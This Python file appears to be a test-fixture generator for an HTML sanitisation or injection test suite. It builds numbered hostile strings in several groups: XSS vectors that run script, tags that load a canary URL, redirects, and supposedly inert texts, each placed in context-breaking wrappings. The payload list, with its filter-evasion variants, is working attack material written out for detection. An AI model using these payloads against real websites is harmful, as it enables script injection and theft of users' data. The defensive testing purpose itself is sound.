"""Texts that would run, load or open something if a page took them for HTML: each kind in each of ten wrappings."""

import base64
from typing import NamedTuple

from browser import BINDING, CANARY

# CODE says that it runs, and asks the canary; URL is the canary's. Both carry the text's number.
_CODE = f"{BINDING}(`NUMBER`),fetch(`http://{CANARY}/NUMBER`)"
_URL = f"http://{CANARY}/NUMBER"
_IMG = "<img src=x: onerror=CODE>"

RUNS = {
    "script": "<script>CODE</script>",
    "script, mixed case": "<ScRiPt\n>CODE</sCrIpT\n>",
    "script, attribute with a bracket": '<script/x=">">CODE</script>',
    "script, line separator": "<script>0\u2028CODE</script>",
    "image error": '<img src="x:" onerror="CODE">',
    "image error, slashes": "<img/src='x:'/onerror=CODE>",
    "image error, NUL": "<img src=x:\0 onerror=CODE>",
    "svg load": "<svg onload=CODE>",
    "svg script, entities": f"<svg><script>{_CODE.replace('ran', '&#114;&#x61;n')}</script></svg>",
    "svg animation": "<svg><animate onbegin=CODE attributeName=x dur=1s></svg>",
    "svg foreign object": f"<svg><foreignObject>{_IMG}</foreignObject></svg>",
    "math style": f"<math><style>{_IMG}</style></math>",
    "frame of a document": '<iframe srcdoc="<script>CODE</script>"></iframe>',
    "frame of a script": '<iframe src="javascript:CODE"></iframe>',
    "frame of data": '<iframe src="data:text/html,<script>CODE</script>"></iframe>',
    "object of data": '<object data="data:text/html;base64,BASE64"></object>',
    "body load": "<body onload=CODE>",
    "media source error": "<video><source src=x: onerror=CODE></video>",
    "focus": "<input autofocus onfocus=CODE>",
    "toggle": "<details open ontoggle=CODE>x</details>",
    "css animation": "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=CODE>x</b>",
    "script link": '<a href="javascript:CODE">x</a>',
    "script form": '<form action="javascript:CODE"><button>x</button></form>',
    "hover": "<b onmouseover=CODE>x</b>",
    "attribute of a region": 'x" onfocus="CODE" y="',
    "noscript": f'<noscript><p title="</noscript>{_IMG}">',
    "shadow root": f"<div><template shadowrootmode=open>{_IMG}</template></div>",
    "comment": f"<!-->{_IMG}-->",
    "cdata": f"<![CDATA[>{_IMG}]]>",
    "many at once": "'\"`--></title></style></textarea></script><svg/onload=CODE>//{{1}}",
}
ASKS = {
    "script file": "<script src=URL></script>",
    "module": "<script type=module src=URL></script>",
    "frame": "<iframe src=URL></iframe>",
    "embed": "<embed src=URL>",
    "base": "<base href=URL/><img src=x>",
    "style sheet": "<link rel=stylesheet href=URL>",
    "preload": "<link rel=preload as=image href=URL>",
    "prefetch": "<link rel=prefetch href=URL>",
    "import": "<style>@import 'URL';</style>",
    "background": "<style>*{background:url(URL)}</style>",
    "style attribute": 'x" style="background:url(URL)" y="',
    "svg image": "<svg><image href=URL /></svg>",
    "poster": "<video poster=URL></video>",
}
LEAVES = {
    # No policy of a page's own governs these.
    "refresh": '<meta http-equiv=refresh content="0;url=URL">',
    "form": "<form action=URL><button>x</button></form>",
}
HARMLESS = {
    # Only a template engine, a second decoding, a lookup or a browser of old would take these for more than text.
    "template": '{{ 7*7 }}{% include "index.html" %}{# URL #}${URL}<%= URL %>',
    "entities": "&lt;img src=x: onerror=CODE&gt;&amp;lt;&#x3c;script&#62;CODE",
    "name lookup": f"<link rel=dns-prefetch href=//NUMBER.{CANARY}>",
    "full width": "\uff1cscript\uff1eCODE\uff1c/script\uff1e+ADw-script+AD4-CODE",
    "swallowing": "<xmp></xmp><textarea><!-- URL <plaintext>",
}
KINDS = RUNS | ASKS | LEAVES | HARMLESS

WRAPPINGS = [
    ("", ""),
    ('">', ""),
    ("'>", ""),
    ("`>", "`"),
    ("</title></textarea></pre>", ""),
    ("</script></style>", ""),
    ("-->", "<!--"),
    ("]]>", "<![CDATA["),
    ("\u202e\u2028\0", "\u202c"),
    ("</p></td></table></svg>", "<table>"),
]
# How a reader sees the characters of these texts that cannot be seen, or that turn others around.
WRITTEN_OUT = {"\0": "\\x00", "\u2028": "\\u2028", "\u202c": "\\u202c", "\u202e": "\\u202e"}


class Hostile(NamedTuple):
    """One text; what it runs or asks for carries its number."""

    number: int
    kind: str
    text: str

    @property
    def shown(self) -> str:
        """The text as a page is to show it."""
        return self.text.translate(str.maketrans(WRITTEN_OUT))


def make_hostile_texts(count: int) -> list[Hostile]:
    """Make up to 500 texts; the first 50 are one of each kind, in wrappings by turns."""
    texts = []
    for number in range(count):
        turn, place = divmod(number, len(KINDS))
        kind, template = list(KINDS.items())[place]
        before, after = WRAPPINGS[(turn + place) % len(WRAPPINGS)]
        script = f"<script>{_CODE}</script>".replace("NUMBER", str(number))
        filled = template.replace("CODE", _CODE).replace("URL", _URL).replace("NUMBER", str(number))
        filled = filled.replace("BASE64", base64.b64encode(script.encode()).decode())
        texts.append(Hostile(number, kind, f"{before}{filled}{after}"))
    return texts
